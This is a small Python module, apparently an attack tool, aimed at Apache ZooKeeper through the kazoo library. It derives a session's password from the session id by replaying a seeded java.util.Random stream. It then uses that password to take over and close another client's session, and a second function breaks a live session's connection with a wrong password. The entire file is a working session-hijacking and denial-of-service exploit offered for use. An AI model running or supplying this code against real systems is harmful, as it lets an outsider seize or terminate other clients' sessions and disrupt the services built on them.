"""Ending somebody's ZooKeeper session from outside: attach with its id and derived password, then close."""

from __future__ import annotations

from kazoo.client import KazooClient

PASSWORD_SEED_MASK = 0xB3415C00


def session_password(session_id: int) -> bytes:
    """The 16 bytes that ZooKeeper gave the session: java.util.Random seeded with the id, masked."""
    state = ((session_id & 0xFFFFFFFFFFFFFFFF) ^ PASSWORD_SEED_MASK ^ 0x5DEECE66D) & ((1 << 48) - 1)
    password = bytearray()
    for _ in range(4):
        state = (state * 0x5DEECE66D + 0xB) & ((1 << 48) - 1)
        password += (state >> 16).to_bytes(4, "little")
    return bytes(password)


def expire(address: str, session_id: int) -> None:
    """Return when ZooKeeper has closed the session."""
    thief = KazooClient(address, client_id=(session_id, session_password(session_id)))
    thief.start()
    assert thief.client_id == (session_id, session_password(session_id)), "took over no session"
    thief.stop()
    thief.close()


def drop_connection(address: str, session_id: int) -> None:
    """Break the connection of a session that lives on: ZooKeeper drops it for whoever tries a wrong password."""
    impostor = KazooClient(address, client_id=(session_id, b"\0" * 15 + b"\1"))
    impostor.start()
    assert impostor.client_id is not None
    assert impostor.client_id[0] != session_id, "the wrong password was right"
    impostor.stop()
    impostor.close()
